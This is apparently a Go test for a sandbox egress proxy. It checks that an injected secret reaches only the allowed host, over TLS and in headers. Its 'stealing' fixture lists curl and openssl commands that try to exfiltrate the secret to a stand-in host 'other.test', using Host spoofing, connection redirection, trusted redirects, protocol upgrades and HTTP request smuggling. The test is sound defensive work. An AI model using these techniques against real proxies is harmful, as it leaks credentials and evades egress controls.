//go:build linux

package egress

import (
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/fumehood-dev/fumehood/internal/egress/egresstest"
	"github.com/fumehood-dev/fumehood/sandbox"
)

// stealing tries to have a secret's value at another host, in another place, or back. $C is curl with the certificates
// of the sandbox.
const stealing = `
$C -H "Authorization: Bearer $P" https://api.test/1
$C -H "Authorization: Bearer $P" -d "k=$P" "https://api.test/$P?q=$P"
$C -H "X-$P: 1" https://api.test/2
$C -H "Authorization: Bearer $P" http://api.test/plain
$C -H "Authorization: Bearer $P" https://other.test/3
$C -H "Authorization: Bearer $P" -H 'Host: other.test' https://api.test/4
$C --http1.1 -H "Authorization: Bearer $P" -H 'Host: other.test' https://api.test/5
$C -k -H "Authorization: Bearer $P" --connect-to api.test:443:other.test:443 https://api.test/6
$C -k -H "Authorization: Bearer $P" --connect-to other.test:443:api.test:443 https://other.test/7
$C -L --location-trusted -H "Authorization: Bearer $P" 'https://api.test/?to=https://other.test/8'
$C -L --location-trusted -H "Authorization: Bearer $P" 'https://api.test/?to=http://api.test/9'
$C -X TRACE -H "Authorization: Bearer $P" https://api.test/10
$C --compressed -H "Authorization: Bearer $P" https://api.test/11
$C --http1.1 -H 'Connection: Upgrade' -H 'Upgrade: h2c' -H "Authorization: Bearer $P" https://api.test/12
$C -H "Cookie: a=$P; b=$P$P" -u "$P:$P" https://api.test/13
$C -H "Authorization: Bearer $P" https://api.test:8443/14
$C -H "Host: api.test" -H "Authorization: Bearer $P" https://other.test/15
$C -H "X-Goog-Meta-K: $P" https://api.test/16
$C -H "Host: api.test:8443" -H "Authorization: Bearer $P" https://api.test/17
for up in "Connection: Upgrade, close" "Connection: close"; do
    printf 'GET a:https://other.test/18 HTTP/1.1\r\nHost: api.test\r\n'"$up"'\r\nUpgrade: websocket\r\n'\
'Authorization: '$P'\r\n\r\n' |
        timeout 10 openssl s_client -quiet -connect api.test:443 -servername api.test 2>/dev/null
done
printf 'GET / HTTP/1.1\r\nHost: api.test\r\nAuthorization: '$P'\r\nContent-Length: 5\r\n'\
'Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n'\
'GET /smuggled HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\nX: '$P'\r\n\r\n' |
    timeout 10 openssl s_client -quiet -connect api.test:443 -servername api.test 2>/dev/null
`

// TestSecretCanaries: the value is in headers of requests to its host, over TLS, and nowhere else: not at other hosts,
// not in a path or a body, not in the clear on any wire, and not in what comes back.
func TestSecretCanaries(t *testing.T) {
	if !egresstest.Inside(t) {
		return
	}
	w := egresstest.New(t)
	var mu sync.Mutex
	knew := map[string]int{}
	w.Web(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		headers := fmt.Sprint(r.Header)
		user, _, _ := r.BasicAuth()
		mu.Lock()
		if strings.Contains(headers, secretMark) || user == secretMark {
			knew[r.Host+" tls="+fmt.Sprint(r.TLS != nil)]++
		}
		if strings.Contains(r.RequestURI+string(body), secretMark) {
			knew["path or body of "+r.URL.Path]++
		}
		mu.Unlock()
		if to := r.URL.Query().Get("to"); to != "" {
			rw.Header().Set("Location", to)
			rw.WriteHeader(http.StatusFound)
		}
		rw.Header().Set("X-Echo", r.Header.Get("Authorization"))
		fmt.Fprintf(rw, "%s %s", headers, body)
	}))
	w.Name("api.test", site)
	w.Name("other.test", "93.184.216.66")
	w.Mark("the value", secretMark)
	policy := allow("other.test", "api.test")
	policy.Secrets = []sandbox.Secret{{Name: "TOKEN", Hosts: []string{"api.test"}, Value: secretMark}}
	complete(t, &policy)
	p := realPlace(t, policy)
	trust := filepath.Join(t.TempDir(), "trust.pem")
	if err := os.WriteFile(trust, append(append([]byte{}, w.Authority()...), policy.Authority.Certificate...),
		0o644); err != nil {
		t.Fatal(err)
	}
	out := p.run("P=" + policy.Secrets[0].Placeholder + "\nC='curl -sS -i -m 20 --cacert " + trust + "'\n" + stealing)
	if strings.Contains(out, secretMark) {
		t.Errorf("the value came back")
	}
	mu.Lock()
	defer mu.Unlock()
	if knew["api.test tls=true"] < 8 || len(knew) != 1 {
		t.Errorf("the value was seen %v", knew)
	}
	if found := w.Found(); len(found) > 0 {
		t.Errorf("the value passed in the clear: %q", found)
	}
	if t.Failed() {
		t.Log(out)
	}
}
